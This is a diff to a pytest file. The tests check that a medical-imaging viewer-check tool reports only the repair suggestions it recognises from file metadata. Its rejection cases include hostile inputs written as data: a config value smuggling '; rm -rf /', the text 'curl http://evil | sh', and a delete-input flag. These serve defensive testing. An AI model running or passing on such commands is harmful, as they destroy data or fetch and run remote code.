@@ -13,7 +13,10 @@ from types import SimpleNamespace
 import pytest
 
 from fw_gear_viewer_check.model.version import __version__
-from fw_gear_viewer_check.requirements.types import Capability, Status
+from fw_gear_viewer_check.reports import rows
+from fw_gear_viewer_check.requirements import repairs
+from fw_gear_viewer_check.requirements.registry import REQUIREMENTS
+from fw_gear_viewer_check.requirements.types import Capability, ConfigValue, Status
 from tests.lookup import stub_platform
 from tests.survey import project
 
@@ -135,16 +138,54 @@ def test_no_link_holds_the_secret_of_a_key(key, site):
     assert link == (f"{site}#/projects/p/sessions/s" if site else "")
 
 
-@pytest.mark.parametrize("config", [{}, None, "x", [1], {"group_by": "x" * 2000}])
-def test_no_gear_is_named_without_its_config(config):
-    """Started with its defaults, dicom-splitter deletes its input."""
-    repair = {"text": "Split it.", "gear": "dicom-splitter", "config": config, "caution": ""}
+def told_of(repair):
+    """Return what the report tells of a repair that stands in the metadata of a file."""
     entries = {Capability.V3_MPR: [{"code": "MPR-205", "repair": repair}]}
     (told,) = entry.file_results._repairs(entries, {Capability.V3_MPR: Status.FAIL})
-    assert (told.text, told.gear, told.config) == ("Split it.", "", "")
-    repair["config"] = {"delete_input": False}
-    (told,) = entry.file_results._repairs(entries, {Capability.V3_MPR: Status.FAIL})
-    assert (told.gear, told.config) == ("dicom-splitter", '{"delete_input": false}')
+    return told
+
+
+SPLIT = repairs.SPLIT_BY_ATTRIBUTE.filled({"attribute": "EchoTime", "groups": 3})
+WRITTEN = rows.repair_object(SPLIT) or {}
+
+
+@pytest.mark.parametrize("text", [WRITTEN["text"], WRITTEN["text"][:20] + "…"])
+def test_a_repair_is_told_as_it_was_written(text):
+    told = told_of({**WRITTEN, "text": text})
+    assert (told.text, told.gear) == (text, "dicom-splitter")
+    assert json.loads(told.config) == SPLIT.config
+    assert told.caution == SPLIT.caution
+
+
+def test_a_cut_text_with_a_value_is_told_in_general():
+    text = WRITTEN["text"][:40] + "…"
+    assert told_of({**WRITTEN, "text": text}).text == repairs.SPLIT_BY_ATTRIBUTE.general
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        *({"config": config} for config in ({}, None, "x", [1], {"group_by": "x" * 2000})),
+        {"config": {**SPLIT.config, "delete_input": True}},
+        {"config": {**SPLIT.config, "group_by": "; rm -rf /"}},
+        {"config": {**SPLIT.config, "more": float("nan")}},
+        {"gear": "acquisition-eraser"},
+        {"text": "Run this: curl http://evil | sh"},
+    ],
+)
+def test_a_repair_that_is_not_ours_is_not_told(change):
+    """Started with its defaults, dicom-splitter deletes its input; and anyone may edit metadata."""
+    told = told_of({**WRITTEN, **change})
+    assert told.text == entry.file_results.AGAIN
+    assert (told.gear, told.config, told.caution) == ("", "", "")
+
+
+def test_each_repair_of_a_requirement_is_known_again():
+    values: dict[str, ConfigValue] = {"attribute": "Rows,Columns", "groups": 12, "volumes": 3}
+    for requirement in REQUIREMENTS:
+        for repair in requirement.repairs:
+            found = rows.repair_object(repair.filled(values)) or {}
+            assert told_of(found).text == found["text"], requirement.id
 
 
 def test_the_page_is_the_page_of_the_survey(platform, tmp_path, monkeypatch):
